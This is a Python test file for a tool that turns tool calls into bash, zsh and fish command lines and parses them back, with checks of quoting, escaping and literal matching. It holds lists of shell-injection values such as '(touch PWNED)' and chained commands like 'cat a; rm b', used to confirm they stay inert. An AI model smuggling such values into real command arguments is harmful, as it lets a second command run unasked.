CONTENT_LIKE_OPTIONS = ["-n", "-e", "-E", "-neE", "-", "--", "-n hi", "a\\nb", "\\c", "back\\\\slash", "x\ny"]


@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_echo_content_that_looks_like_an_option_is_written_literally(shell, tmp_path):
    """Run in the real shell: the file gets exactly the content and a newline."""
    if not shutil.which(shell):
        pytest.skip(f"{shell} not installed")
    for i, content in enumerate(CONTENT_LIKE_OPTIONS):
        name = f"out{i}"
        line = to_bash(ToolCall("echo", {"content": content, "file_name": name}))
        cmd = [shell, "--norc", "--noprofile", "-c", line] if shell == "bash" else [shell, "-f", "-c", line]
        subprocess.run(cmd, cwd=tmp_path, env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)}, check=True, timeout=10)
        assert (tmp_path / name).read_text() == content + "\n", (content, line)
        assert from_bash(line) == ToolCall("echo", {"content": content, "file_name": name}), line


# --------------------------------------------------------------------- fish
# fish quotes its own way (in '...' only \\ and \' are escapes; unquoted
# `(`, `$`, `{`, `*`, `?`, `~`, `%` and backslash escapes are special): the
# same proof, run in a real fish, plus values only fish reads specially.

FISH = shutil.which("fish")
needs_fish = pytest.mark.skipif(not FISH, reason="fish not installed")
FISH_HOSTILE = HOSTILE + [
    "(touch PWNED)",
    "$fish_pid",
    "%self",
    "a\\'b",
    "\\'",
    "'\\",
    "a\\",
    "\\x41\\n",
    "a?b",
    "**",
    "x&",
    "^PWNED",
    ">?PWNED",
    "&> PWNED",
    "a\\ b",
    "{(touch PWNED)}",
    '"$(touch PWNED)"',
]


def _fish_hostile_calls():
    calls = []
    for name in tools.names():
        props = tools.properties(name)
        strings = [k for k, p in props.items() if p.get("type") == "string" and not (name == "wc" and k == "mode")]
        for i, value in enumerate(FISH_HOSTILE):
            other = FISH_HOSTILE[(i + 7) % len(FISH_HOSTILE)]
            calls.append(ToolCall(name, {k: (value if j == 0 else other) for j, k in enumerate(strings)}))
            if len(strings) > 1:
                calls.append(ToolCall(name, {k: (other if j == 0 else value) for j, k in enumerate(strings)}))
    return calls


@pytest.mark.parametrize(
    "word, quoted",
    [
        ("notes.txt", "notes.txt"),
        ("a-b_c/d,e:f@g+h", "a-b_c/d,e:f@g+h"),
        ("%self", "'%self'"),
        ("it's", "'it\\'s'"),
        ("a\\b", "'a\\\\b'"),
        ("$x(y){z}*", "'$x(y){z}*'"),
        ("", "''"),
    ],
)
def test_fish_quote_uses_fish_escapes(word, quoted):
    assert quote(word, "fish") == quoted


def test_fish_form_differs_from_bash_only_in_quoting():
    call = ToolCall("echo", {"content": "it's done", "file_name": "notes.txt"})
    assert to_shell(call, "fish") == "echo 'it\\'s done' >> notes.txt"
    assert to_shell(call, "bash") == "echo 'it'\"'\"'s done' >> notes.txt"  # unchanged
    call = ToolCall("echo", {"content": "-n a\\b", "file_name": "None"})
    assert to_shell(call, "fish") == "printf '%s\\n' '-n a\\\\b'"


@needs_fish
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.lists(st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))), max_size=12))
def test_fish_quote_gives_fish_exactly_the_value(words, tmp_path):
    line = " ".join(["cat"] + [quote(w, "fish") for w in words])
    assert run_argv(line, "cat", tmp_path, "fish") == (words, None)


@needs_fish
def test_hostile_values_reach_the_fish_command_as_single_inert_words(tmp_path):
    calls = _fish_hostile_calls()
    ran = 0
    for call in calls:
        if call.name == "find" and call.arguments.get("path", "").startswith("-"):
            continue  # refused for every shell (tested above)
        if call.name == "echo" and call.arguments.get("file_name") == "~":
            continue  # >> onto home, a folder: it fails, as the effect line says
        assert_argv(call, tmp_path, "fish")
        if call.name == "rm":
            assert_argv(call, tmp_path, "fish", recursive=True)
        ran += 1
    assert ran > 0.9 * len(calls)


@needs_fish
def test_every_benchmark_call_reaches_the_fish_command_unchanged(tmp_path):
    for entry in BFCL:
        assert_argv(tools.validate(entry["name"], entry["arguments"]), tmp_path, "fish")


@needs_fish
def test_fish_echo_content_that_looks_like_an_option_is_written_literally(tmp_path):
    for i, content in enumerate(CONTENT_LIKE_OPTIONS + ["it's \\'", "$x (y) {z}"]):
        name = f"out{i}"
        call = ToolCall("echo", {"content": content, "file_name": name})
        line = to_shell(call, "fish")
        subprocess.run(
            ["fish", "--no-config", "-c", line],
            cwd=tmp_path,
            check=True,
            timeout=10,
            env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)},
        )
        assert (tmp_path / name).read_text() == content + "\n", (content, line)
        assert from_bash(line, "fish") == call, line


def test_every_benchmark_and_hostile_call_round_trips_in_fish():
    calls = [tools.validate(e["name"], e["arguments"]) for e in BFCL] + _fish_hostile_calls()
    for call in calls:
        try:
            line = to_shell(call, "fish")
        except WrongType:
            continue
        assert _reads_back(call, line, "fish"), line
        if call.name == "rm":
            assert from_bash(to_shell(call, "fish", allow_recursive=True), "fish") == call.with_defaults()


@settings(max_examples=1500, deadline=None)
@given(tool_calls())
def test_fish_read_back_inverts_the_fish_form(call):
    try:
        line = to_shell(call, "fish")
    except WrongType:
        assume(False)
    assert _reads_back(call, line, "fish"), line


@pytest.mark.parametrize(
    "line, name, args",
    [
        ("cat a\\ b", "cat", {"file_name": "a b"}),
        ("cat 'it\\'s'", "cat", {"file_name": "it's"}),
        ('cat "it\'s"', "cat", {"file_name": "it's"}),
        ("cat 'a\\qb'", "cat", {"file_name": "a\\qb"}),  # other backslashes in '...' stay
        ("rm -r -- -rf", "rm", {"file_name": "-rf"}),
        ("echo hi there >> notes.txt", "echo", {"content": "hi there", "file_name": "notes.txt"}),
        ("printf '%s\\n' -n", "echo", {"content": "-n", "file_name": "None"}),
        ("find . -name '*x*'", "find", {"path": ".", "name": "x"}),
        ("cd a=b", "cd", {"folder": "a=b"}),  # no zsh `=cmd` in fish
    ],
)
def test_fish_read_back_recognises_hand_edits(line, name, args):
    assert from_bash(line, "fish") == ToolCall(name, args).with_defaults()


@pytest.mark.parametrize(
    "line",
    [
        "cat $HOME",
        "cat (ls)",
        "cat $(ls)",
        'cat "$x"',
        "cat *.txt",
        "cat a?",
        "cat {a,b}",
        "cat %self",
        "cat a\\nb",
        "cat a\\x41",
        "cat a | sort",
        "cat a; rm b",
        "cat a && rm b",
        "cat a &",
        "cat a >f",
        "cat a 2>>f",
        "echo a >>? f",
        "echo a ^f",
        "cat 'open",
        'cat "open',
        "cat a #c",
        "cat a\nrm b",
        "cat a\\",
        'cat "a\\\nb"',
        "command cat a",
        "cat ! a",
    ],
)
def test_fish_read_back_rejects_what_it_does_not_model(line):
    assert from_bash(line, "fish") is None


_FISH_TYPED = st.lists(
    st.one_of(
        st.lists(st.one_of(_CHARS.filter(lambda c: c not in "'\\"), st.sampled_from(["\\'", "\\\\", "\\a"]))).map(
            lambda cs: "'" + "".join(cs) + "'"
        ),
        st.lists(st.one_of(_CHARS.filter(lambda c: c not in '"\\$'), st.sampled_from(['\\"', "\\\\", "\\$", "\\a"]))).map(
            lambda cs: '"' + "".join(cs) + '"'
        ),
        _CHARS.map(lambda c: "\\" + c),
        st.sampled_from(["a", "b.txt", "-", "--", "-n", " ", " ", ">>", "="]),
        _CHARS,
    ),
    min_size=1,
    max_size=8,
).map("".join)


@needs_fish
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rest=_FISH_TYPED)
def test_what_fish_read_back_accepts_is_what_fish_runs(rest, tmp_path):
    for name, line in (("cat", "cat " + rest), ("echo", "echo " + rest), ("grep", "grep " + rest + " f.txt")):
        call = from_bash(line, "fish")
        if (
            call is None
            or call.arguments.get("file_name") in (".", "..")
            or (name == "echo" and call.arguments["file_name"].startswith("~"))
        ):
            continue  # (a redirect into home lands outside the work folder this test watches)
        got = run_argv(line, name, tmp_path, "fish")
        if name == "echo":
            target = call.arguments["file_name"]
            if target == "None":
                assert " ".join(got[0]) == call.arguments["content"], line
            else:
                assert got[1] == target and " ".join(got[2].split("\0")[:-1]) == call.arguments["content"]
        else:
            want, _ = expected_argv(call, home=str(tmp_path / "home"))
            assert _operands_of(name, got[0]) == _operands_of(name, want), line


@pytest.mark.parametrize("shell", [s for s in ("bash", "zsh", "fish") if shutil.which(s)])
def test_grep_and_find_match_literally_as_the_model_learned(shell, tmp_path):
    """The benchmark's reference matches grep's pattern and find's name as literal
    substrings: `a.c` must not match `abc`, `[x]` not `x`; a find name holding * or ?
    (the benchmark's never do) is the glob the user meant (issue 21): `*.txt`."""
    (tmp_path / "notes.txt").write_text("abc\na.c\nx\n[x]\nrrr\nr*\n")
    for name in ("abc", "a.c", "x", "[x]", "rrr", "r*", "q?z", "qaz"):
        (tmp_path / f"f-{name}").touch()

    def run(call):
        line = to_shell(call, shell)
        argv = {"bash": ["bash", "--norc", "--noprofile", "-c"], "zsh": ["zsh", "-f", "-c"], "fish": ["fish", "--no-config", "-c"]}[shell]
        out = subprocess.run([*argv, line], cwd=tmp_path, capture_output=True, text=True, timeout=20)
        return sorted(out.stdout.split("\n")[:-1])

    assert run(ToolCall("grep", {"pattern": "a.c", "file_name": "notes.txt"})) == ["a.c"]
    assert run(ToolCall("grep", {"pattern": "[x]", "file_name": "notes.txt"})) == ["[x]"]
    assert run(ToolCall("grep", {"pattern": "r*", "file_name": "notes.txt"})) == ["r*"]
    assert run(ToolCall("find", {"path": ".", "name": "*.txt"})) == ["./notes.txt"]
    assert run(ToolCall("find", {"path": ".", "name": "f-q?z"})) == ["./f-q?z", "./f-qaz"]
    assert run(ToolCall("find", {"path": ".", "name": "[x]"})) == ["./f-[x]"]
    assert run(ToolCall("find", {"path": ".", "name": "rr"})) == ["./f-rrr"]


@pytest.mark.parametrize("shell", ["bash", "fish"])
def test_home_and_globs_the_model_meant_round_trip(shell):
    """`~` is home and `*.py` a glob, as the user meant (issue 21): rendered so, read back so."""
    for call, line in [
        (ToolCall("cd", {"folder": "~"}), "cd ~"),
        (ToolCall("cat", {"file_name": "~/notes.txt"}), "cat ~/notes.txt"),
        (ToolCall("cat", {"file_name": "~/my notes.txt"}), "cat ~/'my notes.txt'"),
        (ToolCall("find", {"path": ".", "name": "*.py"}), "find . -name '*.py'"),
        (ToolCall("find", {"path": "~", "name": "a?c"}), "find ~ -name 'a?c'"),
    ]:
        assert to_shell(call, shell) == line
        assert read_back(line, shell) == call.with_defaults(), line
    assert to_shell(ToolCall("cat", {"file_name": "~root"}), shell) == "cat '~root'"  # not home: literal
    assert to_shell(ToolCall("grep", {"pattern": "~/x", "file_name": "~/y"}), shell) == "grep -F '~/x' ~/y"


@pytest.mark.parametrize("shell", ["bash", "fish"])
@pytest.mark.parametrize("line", ["cat \\~", "cat '~'", "cat '~/notes.txt'", "echo hi >> '~'", "cd \\~/src"])
def test_a_quoted_tilde_path_is_not_read_back_as_home(shell, line):
    """A quoted ~ names a file called ~, which the shell does not expand; a call's ~ means home,
    so such a line is not one the renderer makes (hypothesis found `cat \\~` read back as home)."""
    assert read_back(line, shell) is None


@pytest.mark.parametrize("shell", ["bash", "fish"])
def test_a_quoted_tilde_pattern_leaves_the_home_path_home(shell):
    """grep's quoted '~' is text; its unquoted ~ file is home (hypothesis found `grep -F '~' ~` refused)."""
    call = ToolCall("grep", {"pattern": "~", "file_name": "~"})
    assert to_shell(call, shell) == "grep -F '~' ~"
    assert read_back("grep -F '~' ~", shell) == call


@pytest.mark.parametrize("value", ["plain", "", "it's", "'", "''x'", "a b", "$HOME", "\\n", "~", "-x", "é"])
def test_sh_quoted_is_one_quoted_word_a_posix_shell_reads_back_exactly(value):
    """The quoting `shellper init` and doctor's copyable lines use: the same as quote, but always quoted,
    so a zsh global alias cannot rewrite even a plain word."""
    import subprocess

    from shellper_hook.render import sh_quoted

    word = sh_quoted(value)
    assert word.startswith("'") or word.startswith('"')
    assert subprocess.run(["sh", "-c", f"printf %s {word}"], capture_output=True, text=True).stdout == value
